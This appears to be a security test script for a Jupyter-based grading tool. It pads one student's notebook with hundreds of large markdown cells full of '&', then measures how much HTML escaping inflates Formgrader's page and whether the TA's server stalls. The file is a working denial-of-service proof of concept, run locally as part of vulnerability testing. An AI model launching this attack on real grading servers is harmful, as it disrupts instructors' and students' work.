"""The graded notebook's markdown is kept uncharged for Formgrader (charge_plain=False: "the TA reads whole answers"):
every markdown cell past the notebook's render budget becomes its escaped text, up to 50,000 characters a cell, with
no cap for the notebook. 400 added markdown cells of 50,000 '&' (20 MB hand-in) -> each escaped to 250,000 chars.
Measures mallory's grading, then the Formgrader page for mallory in a real jupyter lab (time, size) and whether the
TA's Jupyter server answers /api/status meanwhile."""
from lib import *
import socket, secrets, signal, threading, urllib.request, nbformat
N = int(os.environ.get("N", "400"))
d = course("a04")
nb = release()
extra = [nbformat.v4.new_markdown_cell("&" * 50_000) for _ in range(N)]
nb.cells = nb.cells[:1] + extra + nb.cells[1:]
put(d, "aaron", honest()); put(d, "mallory", nb); put(d, "zoe", honest())
print("hand-in bytes", os.path.getsize(f"{d}/submitted/mallory/{A}/{A}.ipynb"))
grade(d); scores(d)
print(json.dumps(json.load(open(f"{d}/grading_report.json")), indent=0)[:1500])
g = f"{d}/autograded/mallory/{A}/{A}.ipynb"
print("graded notebook bytes", os.path.getsize(g) if os.path.exists(g) else None)
db = sqlite3.connect(f"{d}/gradebook.db")
rows = dict((s, n) for n, s in db.execute("select n.id, s.student_id from submitted_notebook n join submitted_assignment s on n.assignment_id=s.id"))
s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
tok = secrets.token_hex(8)
lab = subprocess.Popen([f"{CLONE}/.venv/bin/jupyter", "lab", f"--notebook-dir={d}", "--allow-root", "--no-browser",
                        f"--port={port}", f"--IdentityProvider.token={tok}", "--ServerApp.ip=127.0.0.1"],
                       cwd=d, env=dict(os.environ, PYTHONPATH=CLONE, DISTCOURSE_JUDGE="kernel"),
                       stdout=open("/tmp/attack36-root-a04-lab.log", "w"), stderr=subprocess.STDOUT, start_new_session=True)
try:
    for _ in range(60):
        try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}"); break
        except Exception: time.sleep(1)
    for who in ("aaron", "mallory"):
        lat = []
        stop = threading.Event()
        def probe():
            while not stop.is_set():
                t = time.time()
                try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}", timeout=600).read()
                except Exception as e: pass
                lat.append(time.time() - t); time.sleep(0.5)
        th = threading.Thread(target=probe); th.start()
        t = time.time()
        try:
            page = urllib.request.urlopen(f"http://127.0.0.1:{port}/formgrader/submissions/{rows[who]}/?token={tok}", timeout=600).read()
            print(f"{who}: Formgrader page {len(page):,} bytes in {time.time()-t:.1f} s", end="; ")
        except Exception as e:
            print(who, "page error", e, f"after {time.time()-t:.1f}s", end="; ")
        stop.set(); th.join()
        print(f"TA server /api/status worst latency meanwhile {max(lat):.1f} s")
finally:
    os.killpg(lab.pid, signal.SIGTERM)
    try: lab.wait(15)
    except subprocess.TimeoutExpired: os.killpg(lab.pid, signal.SIGKILL); lab.wait()
